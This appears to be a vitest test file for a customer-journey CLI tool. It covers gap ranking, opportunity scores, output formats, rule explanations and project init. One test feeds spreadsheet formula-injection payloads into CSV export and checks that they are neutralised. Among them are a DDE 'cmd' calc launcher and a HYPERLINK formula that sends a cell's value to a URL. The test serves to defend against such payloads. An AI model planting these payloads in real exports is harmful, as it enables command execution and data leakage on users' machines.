import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { RULES } from "../../src/analysis/rules.ts";
import { CHANGE_RULES } from "../../src/diff/rules.ts";
import { commandLine } from "../helpers/command-line.ts";

const { folder, write, journey } = commandLine();

const TEXT = `owner o "O"
source log "Log | of, \\"calls\\"" { kind analytics }
journey j "=J @all" by o {
  stage s "S" by o {
    touchpoint t "T" via web {
      moment-of-truth
      desired { wait <= 5 min  contacts <= 1 }
      benchmark on 2026-01-01 { wait <= 2 min }
      actual on 2026-11-12 from log { wait 10 min }
      actual on 2026-10-01 from log { wait 20 min }
    }
  }
  opportunity x "Answer sooner" by o {
    closes         t.wait
    customer-value 4
    business-value 1
    effort         2
  }
}
`;
write({
  "gaps/j.journey": TEXT,
  "gaps/k.journey": TEXT.replace("journey j", "journey k").replace(/^(owner|source).*\n/gm, ""),
});

describe("journey gaps", () => {
  it("ranks what is off with every factor, lists what was never measured, and says where to start", async () => {
    expect(await journey("gaps", "gaps/j.journey")).toEqual({
      code: 0,
      error: "",
      out: `=J @all

  severity  where  what  actual  target    others    trend     owner  evidence                        shortfall × moment × confidence
  0.75      ◆ T    Wait  10 min  <= 5 min  <= 2 min  ↗ better  O      Log | of, "calls", 10 days old  0.50 × 1.5 × 1

Never measured

  ◆ T: Contacts

Opportunities

  score  opportunity    closes  owner  √(customer × business) × severity ÷ effort
  0.75   Answer sooner  1 gap   O      √(4 × 1) × 0.75 ÷ 2

Start here: Answer sooner (O).
`,
    });
  });

  it("makes one list over all journeys, or one for each", async () => {
    expect((await journey("gaps", "gaps")).out).toMatch(/^All journeys\n/);
    expect((await journey("gaps", "gaps", "--by", "journey")).out.match(/^=J @all$/gm)).toHaveLength(2);
  });

  it("tells of the worst gap in the journeys below", async () => {
    const above =
      'journey top "Top" by o {\n  stage s "S" by o {\n    touchpoint a "Above" via web {\n      expands j\n    }\n  }\n}\n';
    write({ "nested/j.journey": TEXT, "nested/top.journey": above });
    expect((await journey("gaps", "nested/top.journey")).out).toContain(
      "In journeys below\n\n  Above: 0.75 at T in =J @all\n",
    );
  });

  it("gives programs every fact", async () => {
    const { lists } = JSON.parse((await journey("gaps", "gaps/j.journey", "--format", "json")).out);
    expect(lists[0].gaps[0]).toMatchObject({
      where: "T",
      owner: "O",
      target: "<= 5 min",
      actual: "10 min",
      benchmark: "<= 2 min",
      trend: "better",
      source: 'Log | of, "calls"',
      age: 10,
      weight: { shortfall: 0.5, moment: 1.5, confidence: 1, severity: 0.75 },
      opportunities: ["Answer sooner"],
      file: "gaps/j.journey",
    });
    expect(lists[0].opportunities[0]).toMatchObject({ value: 2, severity: 0.75, score: 0.75, startHere: true });
  });

  it("is safe in Markdown and in a spreadsheet, whatever titles say", async () => {
    const markdown = (await journey("gaps", "gaps/j.journey", "--format", "markdown")).out;
    expect(markdown).not.toMatch(/@all/);
    expect(markdown).toContain("Log \\| of");
    const [header, first, last] = (await journey("gaps", "gaps/j.journey", "--format", "csv")).out.split("\r\n");
    expect(header).toMatch(/^rank,journey,where,/);
    expect(first).toContain(
      '1,\'=J @all,T,metric,Wait,O,<= 5 min,10 min,<= 2 min,better,"Log | of, ""calls""",2026-11-12,10,true,0.5,1.5,1,0.75,',
    );
    expect(last).toMatch(/^,'=J @all,T,unknown,Contacts/);
  });

  it("has no formula in CSV, however it is hidden, and plain numbers as they are", async () => {
    const titles = [
      "-2+3+cmd|' /C calc'!A0",
      '+1+HYPERLINK(\\"http://x/?\\"&A1)',
      "@SUM(1)",
      "  =1",
      "\u200B=1",
      "'=1",
      "＝1",
      "＋1",
      "－1",
      "＠a",
      "a;=1",
      "tab\t=1",
      "-5",
      "+1.5",
      "-5 EUR",
      "1-2",
      "fine",
    ];
    const lines = titles.map(
      (title, index) => `touchpoint t${index} "${title}" via web { actual ad-hoc on 2026-11-01 }`,
    );
    write({ "csv/j.journey": `journey j "J" {\nstage s "S" {\n${lines.join("\n")}\n}\n}\n` });
    const { out } = await journey("gaps", "csv", "--format", "csv");
    const cells = out
      .split("\r\n")
      .slice(1, -1)
      .map((line) => /^\d*,J,(?:"((?:[^"]|"")*)"|([^,]*)),ad-hoc/.exec(line));
    expect(cells.map((cell) => cell?.[1] ?? cell?.[2])).toEqual([
      "'-2+3+cmd|' /C calc'!A0",
      '\'+1+HYPERLINK(""http://x/?""&A1)',
      "'@SUM(1)",
      "'  =1",
      "' =1",
      "''=1",
      "'＝1",
      "'＋1",
      "'－1",
      "'＠a",
      "a;'=1",
      "tab =1",
      "-5",
      "+1.5",
      "'-5 EUR",
      "1-2",
      "fine",
    ]);
  });

  it("counts ages from the day that is said to be today", async () => {
    expect((await journey("gaps", "gaps/j.journey", "--as-of", "2026-11-13")).out).toContain("1 day old");
  });
});

describe("journey rules and explain", () => {
  it("list all rules and show the page of each", async () => {
    const { out } = await journey("rules");
    for (const { id } of [...RULES, ...CHANGE_RULES]) expect(out).toContain(`\n  ${id} `);
    const { rules, changes } = JSON.parse((await journey("rules", "--format", "json")).out);
    expect([rules.length, changes.length]).toEqual([RULES.length, CHANGE_RULES.length]);
    expect((await journey("explain", "owner-removed")).out).toMatch(/^# owner-removed\n/);
    expect((await journey("explain", "lost-context")).out).toMatch(/^# lost-context\n/);
  });

  it("help with a name that is nearly one", async () => {
    expect(await journey("explain", "lost-contxt")).toEqual({
      code: 2,
      out: "",
      error: "journey: There is no rule lost-contxt. Did you mean lost-context?\n",
    });
  });
});

describe("journey init", () => {
  it("starts a project that can be checked, with one thing that fails", async () => {
    const { code, out } = await journey("init", "new one");
    expect({ code, next: out.includes('journey check "new one"') }).toEqual({ code: 0, next: true });
    const json = JSON.parse((await journey("check", "new one", "--format", "json")).out);
    expect(json.findings.map((finding: { rule: string }) => finding.rule)).toEqual(["gap-metric", "gap-failing"]);
    expect((await journey("gaps", "new one")).out).toContain("Start here: Say it before they ask (Delivery).");
  });

  it("writes what the formatter would", async () => {
    await journey("init", "canonical");
    expect((await journey("format", "--check", "canonical")).code).toBe(0);
  });

  it("overwrites nothing", async () => {
    write({ "used/first.journey": "mine" });
    expect(await journey("init", "used")).toEqual({
      code: 2,
      out: "",
      error:
        "journey: used has first.journey already; nothing was written. Choose another folder: journey init FOLDER\n",
    });
    expect(readFileSync(path.join(folder, "used/first.journey"), "utf8")).toBe("mine");
    expect(existsSync(path.join(folder, "used/org.journey"))).toBe(false);
  });
});
